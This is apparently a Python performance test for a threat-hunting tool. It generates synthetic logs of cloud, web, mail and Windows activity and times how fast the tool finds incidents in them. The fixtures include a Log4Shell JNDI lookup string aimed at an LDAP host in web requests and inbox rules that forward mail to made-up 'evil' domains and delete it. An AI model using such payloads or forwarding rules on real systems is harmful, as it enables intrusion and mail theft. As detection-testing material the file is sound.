#!/usr/bin/env python3
"""test_incident_crowd: evidence of somebody who wants a hunt never to end: very many machines at one address, servers of made-up names, floods of each, bursts of
refusals, rules, exports, doors. Each is some ten thousand events, of which the square would be hours."""

import datetime
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import time

BINARY = os.environ["LONGWATCH_BINARY"]
RULES = pathlib.Path(os.environ["LONGWATCH_SOURCE"]) / "data/rules"
MANY = 2000 if os.environ.get("LONGWATCH_CHECKED") else 20000
SECONDS = 60  # a hunt of these takes about one on an ordinary laptop
START = datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc)


def at(seconds):
    return (START + datetime.timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


def trail(seconds, name, source, who, address, error="", **parameters):
    record = {"eventVersion": "1.08", "eventTime": at(seconds), "eventSource": source, "eventName": name, "awsRegion": "eu-central-1",
              "sourceIPAddress": address, "userAgent": "Boto3/1.26", "requestParameters": parameters, "eventID": f"{seconds}-{who}", "eventType": "AwsApiCall",
              "userIdentity": {"type": "AssumedRole", "arn": who, "accountId": "123456789012"}, "recipientAccountId": "123456789012"}  # fmt: skip
    return json.dumps(record | ({"errorCode": error} if error else {}))


def machines(out):
    """Credentials of machines, all at one address."""
    for n in range(MANY):
        out.write(trail(n, "DescribeInstances", "ec2.amazonaws.com", f"arn:aws:sts::123456789012:assumed-role/web/i-{n:010x}", "198.18.1.1") + "\n")


def refusals(out):
    """Bursts of refusals, each of a role that somebody assumed just before."""
    for n in range(MANY // 10):
        role = f"arn:aws:sts::123456789012:assumed-role/r{n}/s"
        out.write(trail(n * 40, "AssumeRole", "sts.amazonaws.com", f"arn:aws:iam::123456789012:user/u{n}", "198.18.1.1", roleArn=f"arn:aws:iam::123456789012:role/r{n}") + "\n")
        for k in range(12):
            out.write(trail(n * 40 + k, f"Get{k}", "iam.amazonaws.com", role, "198.18.1.1", "AccessDenied", of=f"{k}") + "\n")


def requests(out):
    """Requests that look like an attack, to servers of made-up names; each refused to others."""
    for n in range(MANY // 4):
        for k in range(4):
            when = (START + datetime.timedelta(seconds=n * 4 + k)).strftime("%d/%b/%Y:%H:%M:%S +0000")
            out.write(f'h{n}.example 198.{18 + k % 2}.{n % 256}.{k + 1} - - [{when}] "GET /?x=${{jndi:ldap://a/b}} HTTP/1.1" {404 if k else 200} 9 "-" "x"\n')


def floods(out):
    """A flood at each of many servers at the same hour."""
    for day in (0, 30):
        for minute in range(10):
            for n in range(MANY // 200):
                when = (START + datetime.timedelta(days=day, minutes=minute)).strftime("%d/%b/%Y:%H:%M:%S +0000")
                for _ in range(1 if not day else 20):
                    out.write(f'f{n}.example 203.0.113.{n % 250 + 1} - - [{when}] "GET /a HTTP/1.1" 200 9 "-" "x"\n')


def audit(seconds, operation, user, **more):
    base = {"CreationTime": at(seconds)[:-1], "Id": f"{seconds}{user}{operation}", "Operation": operation, "RecordType": 1, "ResultStatus": "Succeeded",
            "Workload": "Exchange", "UserId": user, "ClientIP": f"198.18.{seconds % 250}.{seconds % 200 + 1}"}  # fmt: skip
    return json.dumps(base | more)


def doors(out):
    """Rules that send mail outside, each of another account, and as many that are taken away; names that end like commands."""
    for n in range(MANY):
        user = f"u{n // 4}@chamber.example"
        out.write(audit(n, "New-InboxRule", user, Parameters=[{"Name": "Name", "Value": f"delete {n}"}, {"Name": "ForwardTo", "Value": f"x{n}@evil{n}.example"}, {"Name": "DeleteMessage", "Value": "True"}]) + "\n")  # fmt: skip
        out.write(audit(n + MANY, "Remove-InboxRule", f"v{n}@chamber.example", Parameters=[{"Name": "Identity", "Value": f"r{n}"}]) + "\n")


def taken(out):
    """Accounts whose passwords are guessed from ever other addresses, which then make rules there: each is an incident."""
    for n in range(MANY // 10):
        address = f"20.{n // 256}.{n % 256}.7"
        for k in range(40):
            user = f"t{n}@chamber.example" if k == 39 else f"g{n}.{k}@chamber.example"
            out.write(json.dumps({"id": f"{n}-{k}", "createdDateTime": at(86400 * (n % 300) + n + k * 20), "userPrincipalName": user, "appDisplayName": "Office", "resourceDisplayName": "Office",
                                  "ipAddress": address, "clientAppUsed": "Browser", "userAgent": "x", "isInteractive": True, "tenantId": "5e1f0000-0000-4000-8000-00000000c4a3",
                                  "status": {"errorCode": 0 if k == 39 else 50126, "failureReason": "x"}}) + "\n")  # fmt: skip
            if k < 2:
                out.write(json.dumps({"id": f"{n}-{k}b", "createdDateTime": at(86400 * (n % 300) + n + k * 20 + 5), "userPrincipalName": f"t{n}@chamber.example", "appDisplayName": "Office", "resourceDisplayName": "Office",
                                      "ipAddress": address, "clientAppUsed": "Browser", "userAgent": "x", "isInteractive": True, "tenantId": "5e1f0000-0000-4000-8000-00000000c4a3",
                                      "status": {"errorCode": 50126, "failureReason": "x"}}) + "\n")  # fmt: skip


def rules(out):
    for n in range(MANY // 10):
        event = json.loads(audit(86400 * (n % 300) + n + 1000, "New-InboxRule", f"t{n}@chamber.example", Parameters=[{"Name": "Name", "Value": "."}, {"Name": "ForwardTo", "Value": f"x{n}@evil{n}.example"}, {"Name": "DeleteMessage", "Value": "True"}]))  # fmt: skip
        out.write(json.dumps(event | {"ClientIP": f"20.{n // 256}.{n % 256}.7", "SessionId": f"s{n}"}) + "\n")


def exports(out):
    """Exports by many, and calls of all that time."""
    for n in range(MANY // 10):
        when = (START + datetime.timedelta(days=30, seconds=n * 60)).strftime("%b %d %Y %H:%M:%S")
        out.write(
            f"<188>{n}: CUCM01: {when} UTC : %UC_AUDITLOG-4-AdministrativeEvent: %[ UserID =u{n % 700}][ ClientAddress =198.18.1.1][ Severity =4][ EventType =CDRExport]"
            f"[ ResourceAccessed=CAR][EventStatus =Success][CompulsoryEvent =No][AuditCategory =AdministrativeEvent][ComponentID =Cisco CAR]"
            f"[AuditDetails =Exported CDR records {n}][App ID=Cisco CAR][Cluster ID=x][Node ID=CUCM01]: Audit Event is generated by this application\n"
        )


def services(out):
    """Services and tasks with programs in folders where none belong, on as many hosts."""
    for n in range(MANY // 4):
        for k, (event, data) in enumerate(
            [
                (7045, {"ServiceName": f"svc{chr(97 + n % 26)}{chr(97 + n // 26 % 26)}{chr(97 + n // 676 % 26)}", "ImagePath": f"C:\\Users\\Public\\x{n}.exe", "AccountName": "LocalSystem"}),
                (4688, {"SubjectUserName": f"u{n}", "SubjectDomainName": "CHAMBER", "NewProcessName": "C:\\Windows\\System32\\sc.exe", "CommandLine": f"sc.exe delete svc{n}", "ParentProcessName": "C:\\Program Files\\Java\\bin\\java.exe"}),
            ]
        ):  # fmt: skip
            system = {"EventRecordID": 2 * n + k, "Provider": {"Name": "Service Control Manager" if event == 7045 else "Microsoft-Windows-Security-Auditing"}, "EventID": event,
                      "Channel": "System" if event == 7045 else "Security", "Computer": f"WS{n:05}.chamber.example", "TimeCreated": {"SystemTime": at(86400 * 40 + n * 10 + k)}}  # fmt: skip
            out.write(json.dumps({"Event": {"System": system, "EventData": data}}) + "\n")


CROWDS = [
    ("machines.jsonl", machines),
    ("refusals.jsonl", refusals),
    ("requests.log", requests),
    ("floods.log", floods),
    ("doors.jsonl", doors),
    ("taken.jsonl", taken),
    ("rules.jsonl", rules),
    ("exports.log", exports),
    ("services.jsonl", services),
]


def main():
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        evidence = folder / "evidence"
        evidence.mkdir()
        for file, write in CROWDS:
            with (evidence / file).open("w") as out:
                write(out)
        alone = [[evidence / file] for file, _ in CROWDS if file not in ("taken.jsonl", "rules.jsonl")]
        for paths in [[evidence / "taken.jsonl", evidence / "rules.jsonl"], *alone, [evidence]]:
            began = time.monotonic()
            done = subprocess.run(
                [BINARY, "hunt", *map(str, paths), "--rules", str(RULES), "-o", str(folder / "case"), "--force"], capture_output=True, text=True, timeout=4 * SECONDS
            )
            took = time.monotonic() - began
            assert done.returncode in (0, 1), f"{paths}: {done.stderr}"
            assert "INCIDENTS" in done.stdout, f"{paths}: no act was read"
            print(f"{paths[0].name}: {took:.1f} s: {done.stdout[done.stdout.find('INCIDENTS') :].splitlines()[0]}")
            assert took < SECONDS or os.environ.get("LONGWATCH_CHECKED"), f"{paths}: {took:.0f} seconds"
            sys.stdout.flush()


if __name__ == "__main__":
    main()
